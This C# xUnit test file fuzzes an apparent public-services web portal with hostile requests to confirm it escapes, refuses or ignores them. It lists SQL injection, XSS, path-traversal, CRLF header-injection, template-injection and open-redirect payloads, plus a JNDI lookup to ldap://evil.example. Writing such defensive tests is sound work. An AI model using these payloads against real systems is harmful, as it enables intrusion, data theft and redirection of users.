using System.Net;
using System.Text;
using Xunit;
using Zhengtong.Kernel;
using Zhengtong.Support;

namespace Zhengtong.Attacks;

/// <summary>
/// What does not come from a form: addresses, query strings, headers, cookies and JSON, each filled with what breaks careless programs.
/// Answers are refusals or pages that show it as text; never a fault of ours, never a header or an address of the attacker's.
/// </summary>
public sealed class HostileRequestsTests(PlatformFixture platform) : IClassFixture<PlatformFixture>
{
    private const string Marked = "<script>alert(1)</script>";
    private const string Elsewhere = "evil.example";

    /// <summary>As they stand in an address: escaped already.</summary>
    private static readonly string[] InAddresses =
    [
        Uri.EscapeDataString($"' or '1'='1'; select pg_sleep(9); -- {Marked}"),
        Uri.EscapeDataString($"\"'><img src=x onerror=alert(1)>{Marked}"),
        "%00", "%ff%fe%ed%a0%80", "x%0d%0aSet-Cookie:%20zt-planted=1", "..%2f..%2f..%2fetc%2fpasswd", "..%5c..%5cweb.config",
        Uri.EscapeDataString($"{{{{7*7}}}}${{7*7}}<%=7*7%>{Marked}"), "-9223372036854775809", "1e309", "9999-99-99",
        "%E2%80%AE%F0%9F%92%A9", "00000000-0000-0000-0000-000000000000", $"https%3A%2F%2F{Elsewhere}%2F", $"%2F%2F{Elsewhere}",
        $"%2F%5C{Elsewhere}", $"%2F%09%2F{Elsewhere}", "javascript%3Aalert(1)",
    ];

    private static readonly string[] AlwaysTried = ["q", "return", "page", "sort", "size", "from", "kind", "area", "status", "a[]",
        "__proto__"];

    private static readonly string[] Bodies =
    [
        "", "{", "null", "[]", "\"x\"", "{\"context\":", "{\"a\":" + new string('[', 5000), "{\"fields\":null}",
        "{\"context\":{\"a\":1e999}}",
        "{\"__proto__\":{\"x\":1},\"name\":{\"$gt\":\"\"}}", "{\"name\":\"\\u0000\\ud800\"}",
        "{\"name\":\"' or 1=1; --<script>alert(1)</script>\"}",
        "{\"name\":" + "9".PadRight(4000, '9') + "}", "{\"name\":true,\"name\":false,\"version\":\"x\"}",
    ];

    [Fact]
    public async Task Every_address_and_every_query_takes_anything_and_breaks_nothing()
    {
        var findings = new List<string>();
        var tried = 0;
        foreach (var (caller, targets) in ByCaller(t => !t.Changes))
        {
            var browser = await caller.EnterAsync(platform);
            foreach (var target in targets)
            {
                var names = target.QueryNames().Concat(AlwaysTried).Distinct().ToList();
                // Each name gets every third payload, each payload meets another name at every turn.
                for (var turn = 0; turn < InAddresses.Length; turn += 3)
                {
                    var query = names.Select((n, i) => $"{n}={InAddresses[(i + turn) % InAddresses.Length]}");
                    await LookAsync(findings, browser, target, target.Address + "?" + string.Join('&', query));
                    tried++;
                }
                if (target.Endpoint.RoutePattern.Parameters.Count == 0) { continue; }
                // A server refuses NUL in a path by itself; the one of these tests cannot even be asked.
                foreach (var payload in InAddresses.Take(7).Where(p => p != "%00"))
                {
                    var address = Target.Fill(target.Endpoint.RoutePattern, _ => "PUT-IT-HERE").Replace("PUT-IT-HERE", payload,
                        StringComparison.Ordinal);
                    await LookAsync(findings, browser, target, address);
                    tried++;
                }
            }
        }
        Assert.True(tried > 1000, $"only {tried} requests");
        Assert.True(findings.Count == 0, string.Join('\n', findings.Distinct().Take(40)));
    }

    [Fact]
    public async Task Headers_and_cookies_take_anything_and_break_nothing()
    {
        string[] names =
        [
            "User-Agent", "Referer", "X-Forwarded-For", "X-Forwarded-Host", "X-Forwarded-Proto", "X-Original-URL", "X-Rewrite-URL",
            "X-HTTP-Method-Override", "Accept-Language", "Accept", "Origin", "If-None-Match", "If-Modified-Since", "Range", "traceparent",
            "Authorization", "Sec-CH-Prefers-Color-Scheme", "HX-Request", "HX-Current-URL", "Forwarded",
        ];
        string[] values =
        [
            $"\"'><img src=x>{Marked}", "' or 1=1; --", "bytes=0-18446744073709551615,0-0", "Bearer x", "Bearer zt_x_y", "Basic Og==",
            "${jndi:ldap://evil.example/a}", new('a', 6000), $"https://{Elsewhere}/",
            "00-00000000000000000000000000000000-0000000000000000-01",
            "\u00ff\u00fe", "*/*;q=x", ",,,;;;=",
        ];
        string[] pages = ["/", "/sign-in", "/services", "/apply/old-age-allowance", "/api/openapi.json", "/workbench/inbox", "/dist/x.js",
            "/no-such-page"];
        var findings = new List<string>();
        var citizen = await platform.CitizenAsync("limei");
        var session = citizen.Cookies.ToList();
        foreach (var (page, number) in pages.Select((p, i) => (p, i)))
        {
            foreach (var name in names)
            {
                foreach (var value in values.Where((_, i) => (i + number) % 3 == 0))
                {
                    var request = new HttpRequestMessage(HttpMethod.Get, page);
                    if (!request.Headers.TryAddWithoutValidation(name, value)) { continue; }
                    await LookAsync(findings, citizen, $"{page} with {name}", request);
                }
            }
            foreach (var name in session.Select(c => c.Key).Concat(["zt-session", "zt-device", "zt-preferences", "zt-flash",
                "zt-form"]))
            {
                foreach (var value in values.Where(v => !v.Contains(';',
                    StringComparison.Ordinal)).Append("%22%3E%3Cscript%3Ealert(1)%3C%2Fscript%3E"))
                {
                    var visitor = platform.Visitor();
                    visitor.Cookies[name] = value.Any(char.IsControl) || !value.All(char.IsAscii) ? "x" : value;
                    await LookAsync(findings, visitor, $"{page} with cookie {name}", new(HttpMethod.Get, page));
                }
            }
            citizen.Cookies.Clear();
            foreach (var (name, value) in session) { citizen.Cookies[name] = value; }
        }
        Assert.True(findings.Count == 0, string.Join('\n', findings.Distinct().Take(40)));
    }

    [Fact]
    public async Task Every_interface_takes_any_json_and_breaks_nothing()
    {
        var findings = new List<string>();
        var tried = 0;
        foreach (var (caller, targets) in ByCaller(t => t.Changes && t.Pattern.StartsWith("/api", StringComparison.Ordinal)))
        {
            var browser = await caller.EnterAsync(platform);
            foreach (var target in targets)
            {
                // Names that are there: behind them lies what reads the body.
                foreach (var address in new[] { target.Address, target.Address.Replace("made-up", "eldercare-institution",
                    StringComparison.Ordinal),
                    target.Address.Replace("made-up", "old-age-allowance", StringComparison.Ordinal) }.Distinct())
                {
                    foreach (var body in Bodies)
                    {
                        foreach (var type in (string[])["application/json", "text/plain", "application/x-www-form-urlencoded"])
                        {
                            var request = new HttpRequestMessage(new(target.Method),
                                address) { Content = new StringContent(body, Encoding.UTF8, type) };
                            await LookAsync(findings, browser, $"{target} {address} {type} {Sign(body)}", request, isChange: body != "{}");
                            tried++;
                        }
                    }
                }
            }
        }
        Assert.True(tried > 100, $"only {tried} bodies were tried");
        Assert.True(findings.Count == 0, string.Join('\n', findings.Distinct().Take(40)));
    }

    [Theory]
    [InlineData("https://evil.example/")]
    [InlineData("//evil.example")]
    [InlineData("/\\evil.example")]
    [InlineData("/\t/evil.example")]
    [InlineData("\\\\evil.example")]
    [InlineData("/%09/evil.example")]
    [InlineData("javascript:alert(1)")]
    [InlineData("/x\r\nSet-Cookie: zt-planted=1")]
    public async Task No_form_leads_to_another_site(string there)
    {
        var visitor = platform.Visitor();
        var page = await visitor.GetAsync("/sign-in");
        var chosen = await visitor.SubmitAsync(page, page.Forms.First(f =>
            f.Action.EndsWith("/preferences", StringComparison.Ordinal)).Set("return", there), follow: false);
        var signedIn = await visitor.SubmitAsync(page, page.Form("password").Set("account", "limei")
            .Set("password", Identity.IdentityOptions.DemoPassword).Set("return", there), follow: false);
        var officer = platform.Visitor();
        var door = await officer.GetAsync("/workbench/sign-in");
        var inside = await officer.SubmitAsync(door, door.Form("password").Set("account", "leader1")
            .Set("password", Identity.IdentityOptions.DemoPassword).Set("return", there), follow: false);
        var acting = await visitor.GetAsync("/sign-in/acting");
        var acted = acting.Forms.Any(f => f.Inner.Contains("principal", StringComparison.Ordinal))
            ? await visitor.SubmitAsync(acting, acting.Form("principal").Set("return", there), follow: false)
            : acting;

        foreach (var answer in (HtmlPage[])[chosen, signedIn, inside, acted])
        {
            Assert.False(LeadsAway(answer.Location), answer.Location);
        }
    }

    [Fact]
    public async Task A_return_address_with_any_character_is_an_address_or_none()
    {
        var visitor = platform.Visitor();
        var page = await visitor.GetAsync("/sign-in");
        foreach (var there in (string[])["/search?q=¿'\"(", "/services?theme=环境", "/x\u202e", "/%zz", "/\ud800"])
        {
            var form = page.Forms.First(f => f.Action.EndsWith("/preferences", StringComparison.Ordinal)).Set("return", there);
            var answer = await visitor.SubmitAsync(page, form, follow: false);

            Assert.Equal(HttpStatusCode.SeeOther, answer.Status);
            Assert.True(answer.Location?.All(char.IsAscii), answer.Location);
        }
    }

    private static string Sign(string text) => text.Length > 30 ? text[..30] : text;

    /// <summary>Targets with the first caller who may, so that the payload gets as far as it can.</summary>
    private IEnumerable<(Caller Caller, List<Target> Targets)> ByCaller(Func<Target, bool> which) => Target.All(platform).Where(which)
        .Where(t => t.Pattern is not "/metrics")
        .GroupBy(t => Caller.All.FirstOrDefault(c => c.Kind is not ActorKind.Client && c.May(t.Rule)) ?? Caller.Of("visitor"))
        .Select(g => (g.Key, g.ToList()));

    private static Task LookAsync(List<string> findings, Browser browser, Target target, string address) =>
        LookAsync(findings, browser, $"{target} {address}", new(HttpMethod.Get, address));

    private static async Task LookAsync(List<string> findings, Browser browser, string what, HttpRequestMessage request,
        bool isChange = false)
    {
        HtmlPage answer;
        try { answer = await browser.SendAsync(request, follow: false); }
        catch (Exception fault) when (fault is not Xunit.Sdk.XunitException)
        {
            findings.Add($"{what}: {fault.GetType().Name} {fault.Message}");
            return;
        }
        if ((int)answer.Status >= 500 && answer.Status is not HttpStatusCode.ServiceUnavailable) { findings.Add($"{what}: {(int)answer.Status}"); }
        if (answer.Html.Contains(Marked, StringComparison.Ordinal) && answer.Html.StartsWith("<!DOCTYPE",
            StringComparison.OrdinalIgnoreCase)
            || answer.Html.Contains("<img src=x", StringComparison.Ordinal)) { findings.Add($"{what}: not escaped"); }
        if (LeadsAway(answer.Location)) { findings.Add($"{what}: leads to {answer.Location}"); }
        if (browser.Cookies.ContainsKey("zt-planted")) { findings.Add($"{what}: a planted cookie"); browser.Cookies.Remove("zt-planted"); }
        if (answer.Html.Contains("root:x:0", StringComparison.Ordinal)) { findings.Add($"{what}: a file of the machine"); }
        if (answer.Html.Contains("NpgsqlException", StringComparison.Ordinal)
            || answer.Html.Contains("   at Zhengtong.", StringComparison.Ordinal))
        {
            findings.Add($"{what}: shows what is inside");
        }
        if (isChange && (int)answer.Status is >= 200 and < 300 && answer.Html.Contains("alert(1)", StringComparison.Ordinal)
            && answer.Html.Contains("text/html", StringComparison.Ordinal))
        {
            findings.Add($"{what}: accepted");
        }
    }

    private static bool LeadsAway(string? location) =>
        location is not null && (!location.StartsWith('/') || location.StartsWith("//", StringComparison.Ordinal)
            || location.StartsWith("/\\", StringComparison.Ordinal)
            || location.Any(char.IsControl));
}
